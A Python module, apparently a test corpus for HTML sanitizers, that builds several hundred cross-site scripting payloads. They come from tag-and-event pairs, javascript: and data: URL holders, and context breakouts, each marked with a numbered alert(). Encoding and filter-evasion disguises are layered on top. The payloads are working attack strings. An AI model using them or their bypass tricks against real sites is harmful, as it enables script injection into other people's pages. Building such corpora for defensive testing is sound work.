"""Words that would run if anything took them for more than words: tags, events, addresses and disguises, multiplied.

Each carries a number of its own, so that whoever sees one run knows which it was.
"""

from collections.abc import Callable, Iterator
from html import escape
from itertools import count, cycle, product
from urllib.parse import quote

TAGS = (
    "img src=x", "svg", "svg><g", "body", "input autofocus", "details open", "video src=x", "audio src=x", "marquee",
    "iframe", "object data=x", "embed src=x", "select autofocus", "textarea autofocus", "video><source src=x",
    "x tabindex=1",
)  # fmt: skip
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onstart",
    "onmouseover",
    "onanimationstart",
    "onpointerrawupdate",
)
SCHEMES = (
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "jAvA\tscript:{}",
    "&#106;avascript:{}",
)
HOLDERS = (
    '<a href="{}">x</a>', '<iframe src="{}">', '<form action="{}"><input type=submit>',
    '<button formaction="{}">x</button>',
    '<svg><a xlink:href="{}"><text>x', '<base href="{}">', '<meta http-equiv=refresh content="0;url={}">',
    '<object data="{}">', '<link rel=stylesheet href="{}">', '<div style="background:url({})">',
)  # fmt: skip
BREAKOUTS = (
    "</script><script>{}</script>", "</style><script>{}</script>", "</textarea><script>{}</script>",
    "--><script>{}</script>", "</title><script>{}</script>", '"><script>{}</script>', "'><script>{}</script>",
    "]]><script>{}</script>", "</noscript><script>{}</script>", "</template><script>{}</script>",
    "<!--><script>{}</script>", "<script>{}</script>", "\\u003cscript>{}</script>", "\u2028;{};//", "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}", "<%= {} %>", "#{{{}}}", "$t({})",
    "<math><mtext><mglyph><style><img src=x onerror={}>", "<svg><style><img src=x onerror={}>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<a href=https://evil.example onclick={}>x</a>",
    '"onmouseover="{}', "'onfocus='{}' autofocus='", "`-{}-`", "';{};//", "</div><img src=x onerror={}><div>",
)  # fmt: skip


def _entities(text: str) -> str:
    return "".join(f"&#x{ord(letter):x};" for letter in text)


def _wide(text: str) -> str:
    return text.translate({ord("<"): "＜", ord(">"): "＞", ord('"'): "＂"})


DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    str.swapcase,
    escape,
    lambda text: escape(escape(text)),
    quote,
    _entities,
    _wide,
    lambda text: text.replace("script", "scr\u200bipt").replace("on", "o\u00adn"),
    lambda text: f"\u202e{text}\u202c",
    lambda text: text.replace(" ", "/"),
)


def _plain() -> Iterator[str]:
    call = (f"alert({number})" for number in count(1))
    for tag, event in product(TAGS, EVENTS):
        yield f"<{tag} {event}={next(call)}>"
    for holder, scheme in product(HOLDERS, SCHEMES):
        yield holder.format(scheme.format(next(call)))
    for breakout in BREAKOUTS:
        yield breakout.format(next(call))


def corpus() -> list[str]:
    """Every one as it is, and every one in one disguise or another: more than 400, no two the same."""
    plain = list(_plain())
    disguised = [disguise(text) for text, disguise in zip(plain * 2, cycle(DISGUISES[1:]), strict=False)]
    return list(dict.fromkeys([*plain, *disguised]))


def fitting(most: int, words: list[str] | None = None) -> list[str]:
    """Those that fit where no more than so many characters do."""
    return [text for text in words or corpus() if len(text.strip()) <= most]
